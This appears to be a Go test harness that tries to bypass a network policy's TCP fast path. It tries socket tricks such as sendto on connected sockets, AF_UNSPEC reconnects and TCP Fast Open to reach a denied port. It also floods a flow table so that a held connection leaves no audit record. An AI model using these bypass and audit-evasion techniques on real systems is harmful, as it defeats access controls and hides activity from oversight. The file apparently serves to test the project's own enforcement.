// fpattack tries to turn a fast-path TCP socket (allowed by address and
// port, issue 18) towards a port the policy does not allow. Usage:
// fpattack IP ALLOWED_PORT DENIED_PORT. Prints one line per vector.
// fpattack IP PORT 0 churn N makes N whole connections one after another
// (connect, "hello\n", read the answer, close) and prints how many were
// answered.
package main

import (
	"fmt"
	"net"
	"os"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

func sa(ip net.IP, port int) *unix.SockaddrInet4 {
	s := &unix.SockaddrInet4{Port: port}
	copy(s.Addr[:], ip.To4())
	return s
}

func sock() int {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		fmt.Println("socket:", err)
		os.Exit(1)
	}
	tv := unix.Timeval{Sec: 3}
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &tv)
	return fd
}

func unspec(fd int) error {
	// connect(AF_UNSPEC): x/sys has no Sockaddr for it; raw syscall.
	var raw [16]byte // sa_family = 0
	_, _, e := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafePtr(&raw)), 16)
	if e != 0 {
		return e
	}
	return nil
}

func readAns(fd int) string {
	b := make([]byte, 64)
	n, err := unix.Read(fd, b)
	if n > 0 {
		return string(b[:n])
	}
	return fmt.Sprint(err)
}

func main() {
	ip := net.ParseIP(os.Args[1])
	ok, _ := strconv.Atoi(os.Args[2])
	bad, _ := strconv.Atoi(os.Args[3])
	if len(os.Args) > 5 && os.Args[4] == "churn" {
		n, _ := strconv.Atoi(os.Args[5])
		churn(ip, ok, n)
		return
	}
	if len(os.Args) > 4 && os.Args[4] == "evict" {
		evict(ip, ok)
		return
	}

	// 1. sendto with another address on a connected fast socket.
	fd := sock()
	err := unix.Connect(fd, sa(ip, ok))
	e2 := unix.Sendto(fd, []byte("hello\n"), 0, sa(ip, bad))
	fmt.Printf("sendto-connected connect=%v sendto=%v read=%q\n", err, e2, readAns(fd))
	unix.Close(fd)

	// 2. established fast flow, AF_UNSPEC disconnect, connect elsewhere.
	fd = sock()
	err = unix.Connect(fd, sa(ip, ok))
	unix.Write(fd, []byte("hello\n"))
	r := readAns(fd)
	e2 = unspec(fd)
	time.Sleep(100 * time.Millisecond)
	e3 := unix.Connect(fd, sa(ip, bad))
	unix.Write(fd, []byte("hello\n"))
	fmt.Printf("unspec-reconnect connect=%v first=%q unspec=%v reconnect=%v read=%q\n", err, r, e2, e3, readAns(fd))
	unix.Close(fd)

	// 3. same, reconnect by TCP Fast Open sendto.
	fd = sock()
	err = unix.Connect(fd, sa(ip, ok))
	unix.Write(fd, []byte("hello\n"))
	r = readAns(fd)
	e2 = unspec(fd)
	time.Sleep(100 * time.Millisecond)
	e3 = unix.Sendto(fd, []byte("hello\n"), unix.MSG_FASTOPEN, sa(ip, bad))
	fmt.Printf("unspec-fastopen connect=%v first=%q unspec=%v sendto=%v read=%q\n", err, r, e2, e3, readAns(fd))
	unix.Close(fd)

	// 4. nonblocking connect (SYN_SENT), AF_UNSPEC, connect elsewhere.
	fd = sock()
	unix.SetNonblock(fd, true)
	err = unix.Connect(fd, sa(ip, ok))
	e2 = unspec(fd)
	unix.SetNonblock(fd, false)
	e3 = unix.Connect(fd, sa(ip, bad))
	unix.Write(fd, []byte("hello\n"))
	fmt.Printf("synsent-unspec connect=%v unspec=%v reconnect=%v read=%q\n", err, e2, e3, readAns(fd))
	unix.Close(fd)

	// 5. TCP_FASTOPEN_CONNECT: connect to the allowed port, data later.
	fd = sock()
	unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_CONNECT, 1)
	err = unix.Connect(fd, sa(ip, ok))
	e2 = unix.Sendto(fd, []byte("hello\n"), 0, sa(ip, bad))
	fmt.Printf("fastopen-connect connect=%v sendto=%v read=%q\n", err, e2, readAns(fd))
	unix.Close(fd)
}

// evict: a fast flow moves 1234 bytes, then N cheap fast connects (SYN
// sent, socket closed at once) push its record out of the LRU flow map;
// its close then reports nothing (no audit line).
func evict(ip net.IP, port int) {
	fd := sock()
	err := unix.Connect(fd, sa(ip, port))
	msg := make([]byte, 1234)
	copy(msg, "hello\n")
	n, _ := unix.Write(fd, msg)
	r := readAns(fd)
	time.Sleep(200 * time.Millisecond)
	fmt.Printf("held connect=%v wrote=%d read=%q\n", err, n, r)
	start := time.Now()
	i := 0
	for ; i < 400000 && time.Since(start) < 40*time.Second; i++ {
		c, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0)
		if err != nil {
			continue
		}
		unix.Connect(c, sa(ip, port))
		unix.Close(c)
	}
	fmt.Printf("churn %d connects in %v\n", i, time.Since(start))
	// The held flow still works? (its record gone: its packets drop)
	_, werr := unix.Write(fd, []byte("more"))
	fmt.Printf("held-after write=%v\n", werr)
	unix.Close(fd)
}

// churn makes n whole fast connections, one at a time.
func churn(ip net.IP, port, n int) {
	answered := 0
	start := time.Now()
	for i := range n {
		fd := sock()
		err := unix.Connect(fd, sa(ip, port))
		r := ""
		if err == nil {
			unix.Write(fd, []byte("hello\n"))
			if r = readAns(fd); r == "world" {
				answered++
			}
		}
		if r != "world" && i-answered <= 5 {
			fmt.Printf("connection %d: connect=%v read=%q\n", i, err, r)
		}
		unix.Close(fd)
	}
	fmt.Printf("churn n=%d answered=%d in %v\n", n, answered, time.Since(start))
}
